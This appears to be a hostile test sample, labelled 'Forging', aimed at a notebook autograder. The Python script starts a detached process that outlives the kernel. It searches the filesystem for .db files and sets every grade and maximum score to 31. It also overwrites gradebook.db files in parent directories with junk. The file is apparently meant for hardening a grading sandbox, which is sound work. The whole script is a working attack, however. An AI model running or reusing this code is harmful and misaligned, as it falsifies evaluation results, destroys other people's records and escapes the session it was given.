# attack: Forging: a detached process that outlives the kernel writes every gradebook.db it can find
# status: graded
import os, subprocess, sys, textwrap
code = textwrap.dedent('''
    import os, sqlite3, sys, time
    time.sleep(2)
    roots = [os.getcwd(), os.environ.get("COURSE_ROOT", "/"), "/", "/work", "/tmp"]
    for root in roots:
        for d, _, files in os.walk(root):
            if d.count(os.sep) > 8:
                continue
            for f in files:
                if f.endswith(".db"):
                    try:
                        db = sqlite3.connect(os.path.join(d, f))
                        db.execute("UPDATE grade SET auto_score = 31, manual_score = 31")
                        db.execute("UPDATE grade_cells SET max_score = 31")
                        db.commit()
                    except Exception:
                        pass
    for rel in ("../../../gradebook.db", "../../gradebook.db", "../gradebook.db"):
        try:
            open(rel, "wb").write(b"forged")
        except Exception:
            pass
''')
subprocess.Popen([sys.executable, "-c", code, "HOSTILE-4242"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
